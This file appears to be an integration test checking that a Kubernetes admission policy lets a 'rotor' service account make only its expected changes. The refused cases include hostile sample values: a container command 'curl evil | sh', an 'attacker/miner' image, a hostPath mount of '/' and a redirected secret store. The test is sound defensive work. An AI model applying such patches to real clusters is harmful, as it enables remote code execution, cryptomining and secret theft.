/**
 * infra/k8s/admission on the real test API server: rotor's identity, bound to rbac.yaml, is
 * refused what rotor never writes (an image change, a hand-made Job) and allowed what it
 * does (Reloader's env var and annotation, spec.paused, a Job from a CronJob, a Rollout's
 * restartAt, the force-sync annotation of an ExternalSecret, ClusterExternalSecret or
 * VaultStaticSecret), and refused any other change to those objects. The binding is
 * limited to one labelled namespace so other tests sharing the server are not affected.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import {
  KubeConfig,
  type KubernetesObject,
  KubernetesObjectApi,
  PatchStrategy,
} from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parseAllDocuments } from 'yaml';
import { testEnv, uniqueName } from '../../env/index.js';
import { REPO_ROOT } from '../../env/paths.js';

const cluster = testEnv().clusters[0]!;
const api = (kubeconfig: string) => {
  const kc = new KubeConfig();
  kc.loadFromString(kubeconfig);
  return KubernetesObjectApi.makeApiClient(kc);
};
const admin = api(cluster.adminKubeconfig);
const rotor = api(cluster.rotorKubeconfig);
const tag = uniqueName('vap');
const ns = tag;
const policyName = `rotor-writes-only-${tag}`;

type Obj = KubernetesObject & Record<string, unknown>;
const container = { name: 'app', image: 'registry.example/app:1', env: [{ name: 'MODE', value: 'prod' }] };
const template = { metadata: { labels: { app: 'web' } }, spec: { containers: [container] } };

async function policyObjects(): Promise<Obj[]> {
  const text = await readFile(path.join(REPO_ROOT, 'infra/k8s/admission/rotor-writes-only.yaml'), 'utf8');
  const [policy, binding] = parseAllDocuments(text).map((d) => d.toJSON() as Obj);
  (policy!.metadata as { name: string }).name = policyName;
  (binding!.metadata as { name: string }).name = policyName;
  const spec = binding!.spec as Record<string, unknown>;
  spec.policyName = policyName;
  spec.matchResources = { namespaceSelector: { matchLabels: { 'rotor-vap-test': tag } } };
  return [policy!, binding!];
}

function refusal(call: Promise<unknown>): Promise<string> {
  return call.then(
    () => 'allowed',
    (error: { body?: unknown; message?: string }) =>
      `refused: ${JSON.stringify(error.body ?? error.message)}`,
  );
}

const merge = (obj: Obj, patch: { metadata?: object; spec?: object }) =>
  rotor.patch(
    { ...obj, ...patch, metadata: { ...obj.metadata, ...patch.metadata } } as Obj,
    undefined,
    undefined,
    'rotor',
    undefined,
    PatchStrategy.MergePatch,
  );
/** A strategic-merge patch of `obj` as rotor (containers merge by name, as rotor's restart writes them). */
const strategic = (obj: Obj, spec: object) =>
  rotor.patch(
    { ...obj, spec } as Obj,
    undefined,
    undefined,
    'rotor',
    undefined,
    PatchStrategy.StrategicMergePatch,
  );

const deployment: Obj = {
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'web', namespace: ns },
  spec: { selector: { matchLabels: { app: 'web' } }, template },
};

const rollout: Obj = {
  apiVersion: 'argoproj.io/v1alpha1',
  kind: 'Rollout',
  metadata: { name: 'canary', namespace: ns },
  spec: { replicas: 1, selector: { matchLabels: { app: 'web' } }, template },
};
const externalSecret: Obj = {
  apiVersion: 'external-secrets.io/v1',
  kind: 'ExternalSecret',
  metadata: { name: 'db', namespace: ns },
  spec: {
    refreshInterval: '0',
    secretStoreRef: { name: 'vault', kind: 'SecretStore' },
    target: { name: 'db' },
    data: [{ secretKey: 'password', remoteRef: { key: 'app/db', property: 'password' } }],
  },
};
const clusterExternalSecret: Obj = {
  apiVersion: 'external-secrets.io/v1',
  kind: 'ClusterExternalSecret',
  metadata: { name: `${tag}-shared` },
  spec: {
    namespaces: [ns],
    externalSecretName: 'shared',
    externalSecretSpec: externalSecret.spec,
  },
};
const vaultStaticSecret: Obj = {
  apiVersion: 'secrets.hashicorp.com/v1beta1',
  kind: 'VaultStaticSecret',
  metadata: { name: 'api', namespace: ns },
  spec: { mount: 'secret', type: 'kv-v2', path: 'app/api', destination: { name: 'api', create: true } },
};

beforeAll(async () => {
  await admin.create({
    apiVersion: 'v1',
    kind: 'Namespace',
    metadata: { name: ns, labels: { 'rotor-vap-test': tag } },
  });
  for (const o of await policyObjects()) await admin.create(o);
  await admin.create(deployment);
  for (const o of [rollout, externalSecret, clusterExternalSecret, vaultStaticSecret]) await admin.create(o);
  await admin.create({
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'nightly', namespace: ns },
    spec: {
      schedule: '0 0 * * *',
      jobTemplate: { spec: { template: { spec: { ...template.spec, restartPolicy: 'Never' } } } },
    },
  } as Obj);
  // The policy takes effect once the API server has compiled it: wait until an image change is refused.
  const deadline = Date.now() + 20_000;
  while (
    (await refusal(
      merge(deployment, {
        spec: { template: { spec: { containers: [{ name: 'app', image: 'probe:0' }] } } },
      }),
    )) === 'allowed'
  ) {
    await admin.patch(
      {
        ...deployment,
        spec: { template: { spec: { containers: [{ name: 'app', image: container.image }] } } },
      } as Obj,
      undefined,
      undefined,
      'test',
      undefined,
      PatchStrategy.StrategicMergePatch,
    );
    if (Date.now() > deadline) throw new Error('the admission policy never took effect');
    await new Promise((r) => setTimeout(r, 250));
  }
}, 60_000);

afterAll(async () => {
  for (const o of (await policyObjects()).reverse()) await admin.delete(o).catch(() => undefined);
  await admin.delete(clusterExternalSecret).catch(() => undefined);
  await admin.delete({ apiVersion: 'v1', kind: 'Namespace', metadata: { name: ns } }).catch(() => undefined);
});

describe('ValidatingAdmissionPolicy: rotor identity changes only what rotor writes', () => {
  it('refuses an image change to rotor', async () => {
    const answer = await refusal(
      strategic(deployment, {
        template: { spec: { containers: [{ name: 'app', image: 'attacker/miner:1' }] } },
      }),
    );

    expect(answer).toMatch(/refused.*images/);
  });

  it('refuses a change of a non-STAKATER env var, a command and a volume to rotor', async () => {
    const env = await refusal(
      strategic(deployment, {
        template: { spec: { containers: [{ name: 'app', env: [{ name: 'MODE', value: 'debug' }] }] } },
      }),
    );
    const command = await refusal(
      strategic(deployment, {
        template: { spec: { containers: [{ name: 'app', command: ['sh', '-c', 'curl evil | sh'] }] } },
      }),
    );
    const volume = await refusal(
      strategic(deployment, { template: { spec: { volumes: [{ name: 'root', hostPath: { path: '/' } }] } } }),
    );

    expect([env, command, volume].map((a) => a.startsWith('refused'))).toEqual([true, true, true]);
  });

  it('refuses a hand-made Job to rotor', async () => {
    const answer = await refusal(
      rotor.create({
        apiVersion: 'batch/v1',
        kind: 'Job',
        metadata: { name: 'hand-made', namespace: ns },
        spec: { template: { spec: { ...template.spec, restartPolicy: 'Never' } } },
      } as Obj),
    );

    expect(answer).toMatch(/refused.*CronJob/);
  });

  it("allows rotor's own writes: STAKATER env var, pod-template annotation, spec.paused, a Job from a CronJob", async () => {
    const envVar = await refusal(
      strategic(deployment, {
        template: {
          spec: { containers: [{ name: 'app', env: [{ name: 'STAKATER_DB_SECRET', value: 'abc' }] }] },
        },
      }),
    );
    const annotation = await refusal(
      merge(deployment, {
        spec: {
          template: { metadata: { annotations: { 'reloader.stakater.com/last-reloaded-from': '{}' } } },
        },
      }),
    );
    const paused = await refusal(merge(deployment, { spec: { paused: true } }));
    const cronjob = (await admin.read({
      apiVersion: 'batch/v1',
      kind: 'CronJob',
      metadata: { name: 'nightly', namespace: ns },
    })) as Obj & { metadata: { uid: string } };
    const fromCronJob = await refusal(
      rotor.create({
        apiVersion: 'batch/v1',
        kind: 'Job',
        metadata: {
          name: 'nightly-manual',
          namespace: ns,
          annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' },
          ownerReferences: [
            {
              apiVersion: 'batch/v1',
              kind: 'CronJob',
              name: 'nightly',
              uid: cronjob.metadata.uid,
              controller: true,
            },
          ],
        },
        spec: (cronjob.spec as { jobTemplate: { spec: unknown } }).jobTemplate.spec,
      } as Obj),
    );

    expect([envVar, annotation, paused, fromCronJob]).toEqual(['allowed', 'allowed', 'allowed', 'allowed']);
  });

  it("refuses a change of a workload's strategy or pod-template labels, and a Rollout's image, to rotor", async () => {
    const strategy = await refusal(merge(deployment, { spec: { strategy: { type: 'Recreate' } } }));
    const labels = await refusal(
      merge(deployment, { spec: { template: { metadata: { labels: { app: 'web', extra: 'x' } } } } }),
    );
    const rolloutImage = await refusal(
      merge(rollout, {
        spec: { template: { spec: { containers: [{ ...container, image: 'attacker/miner:1' }] } } },
      }),
    );

    expect([strategy, labels, rolloutImage].map((a) => a.startsWith('refused'))).toEqual([true, true, true]);
  });

  it('refuses any change to an ExternalSecret, ClusterExternalSecret or VaultStaticSecret but force-sync', async () => {
    const store = await refusal(merge(externalSecret, { spec: { secretStoreRef: { name: 'attacker' } } }));
    const target = await refusal(merge(externalSecret, { spec: { target: { name: 'kube-root' } } }));
    const otherAnnotation = await refusal(
      merge(externalSecret, { metadata: { annotations: { 'force-sync': '1', 'other/thing': 'x' } } }),
    );
    const cesSpec = await refusal(
      merge(clusterExternalSecret, { spec: { namespaces: [ns, 'kube-system'] } }),
    );
    const cesChildAnnotation = await refusal(
      merge(clusterExternalSecret, {
        spec: { externalSecretMetadata: { annotations: { 'reloader.stakater.com/auto': 'true' } } },
      }),
    );
    const vssPath = await refusal(merge(vaultStaticSecret, { spec: { path: 'other/app' } }));

    expect({ store, target, otherAnnotation, cesSpec, cesChildAnnotation, vssPath }).toEqual({
      store: expect.stringMatching(/refused.*spec of an ExternalSecret/),
      target: expect.stringMatching(/refused/),
      otherAnnotation: expect.stringMatching(/refused.*force-sync annotation/),
      cesSpec: expect.stringMatching(/refused.*ClusterExternalSecret only/),
      cesChildAnnotation: expect.stringMatching(/refused.*ClusterExternalSecret only/),
      vssPath: expect.stringMatching(/refused/),
    });
  });

  it("allows rotor's forces and a Rollout's restartAt", async () => {
    const esForce = await refusal(
      merge(externalSecret, { metadata: { annotations: { 'force-sync': '1' } } }),
    );
    const vssForce = await refusal(
      merge(vaultStaticSecret, { metadata: { annotations: { 'force-sync': '1' } } }),
    );
    const annotations = { 'external-secrets.io/force-sync': '1' };
    const cesForce = await refusal(
      merge(clusterExternalSecret, {
        metadata: { annotations },
        spec: { externalSecretMetadata: { annotations } },
      }),
    );
    const restartAt = await refusal(merge(rollout, { spec: { restartAt: '2026-11-29T00:00:00Z' } }));

    expect({ esForce, vssForce, cesForce, restartAt }).toEqual({
      esForce: 'allowed',
      vssForce: 'allowed',
      cesForce: 'allowed',
      restartAt: 'allowed',
    });
  });
});
